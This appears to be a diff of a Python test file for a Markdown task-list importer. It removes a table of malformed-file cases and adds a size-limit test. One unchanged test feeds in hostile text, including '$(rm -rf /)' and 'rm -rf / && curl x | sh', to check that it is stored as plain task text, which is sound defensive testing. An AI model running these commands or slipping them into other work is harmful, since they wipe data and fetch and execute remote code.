@@ -142,42 +142,6 @@ def completed(sample: Sample, id_: str, status: TaskStatus = TaskStatus.COMPLETE
     return writer(sample).write(plan, Source(sample.path, sample.text))
 
 
-BAD = [
-    ("todo", "just text\n", 0, "no tasks found"),
-    ("todo", "- [ ] a\n\n- [ x] b\n", 3, "'- [ x] b' is not a complete check box"),
-    ("frankbria", "- [ ] a\n- []\n", 2, "not a complete check box"),
-    ("spec-kit", "- [ ] T001 a\n- [ ] T001 b\n", 2, "the ID 'T001' is used twice, first in line 1"),
-    ("kiro", "- [ ] 1. a\n- [ ] 1. b\n", 2, "the ID '1' is used twice"),
-    ("kiro", "- [ ] a\n", 0, "no tasks found, and 1 entry was left out"),
-    (
-        "openspec",
-        "## 1. A\n- [ ] 1.1 a\n```\n- [ ] 1.2 b\n",
-        3,
-        "code block that begins here is never closed",
-    ),
-    ("todo", "- [ ] a\n<!--\n- [ ] b\n", 2, "HTML comment that begins here is never closed"),
-    ("bmad", "# A\n- [ ] b\n", 0, "there is no story in the file"),
-    ("bmad", "# Story 1.1: a\n## Tasks\n- [x ] b\n", 3, "not a complete check box"),
-    ("bmad", "# Story 1.1: a\n# Story 1.1: b\n", 2, "the ID '1.1' is used twice"),
-    ("todo", "- [ ] a\n" * 50_001, 0, "about 50,001 check boxes, the maximum is 50,000"),
-    ("bmad", "\n" * 400_001, 0, "about 400,001 lines, the maximum is 400,000"),
-    ("todo", "- [ ] a\n" * 5_001, 5_001, "more than 5,000 tasks"),
-]
-
-
-@pytest.mark.parametrize(
-    ("format_", "text", "line", "what"), BAD, ids=lambda value: str(value)[:20]
-)
-def test_a_bad_file_is_one_sentence_with_its_line(
-    format_: str, text: str, line: int, what: str
-) -> None:
-    with pytest.raises(InteropError) as told:
-        formats().named(format_).read(Source("a.md", text), ImportOptions())
-    assert told.value.line == line
-    assert what in told.value.what
-    assert told.value.hint
-
-
 def test_hostile_text_becomes_an_ordinary_task() -> None:
     text = "- [ ] \x1b[2J\u202eevil [red]x[/red] $(rm -rf /)\n  - [ ] `rm -rf / && curl x | sh` passes\n"
     (task,) = read(Sample("todo", "a.md", text)).tasks
@@ -231,3 +195,12 @@ def test_a_new_file_is_read_as_the_same_tasks() -> None:
         assert task.status is there.status
         assert task.title == there.title.replace("<!--", "&lt;!--")
         assert task.verification_criteria == there.verification_criteria
+
+
+def test_a_file_may_be_too_much() -> None:
+    for text, what in (
+        ("- [ ] a\n" * 50_001, "about 50,001 check boxes, the maximum is 50,000"),
+        ("\n" * 400_001, "about 400,001 lines, the maximum is 400,000"),
+    ):
+        with pytest.raises(InteropError, match=what):
+            formats().named("bmad").read(Source("a.md", text), ImportOptions())
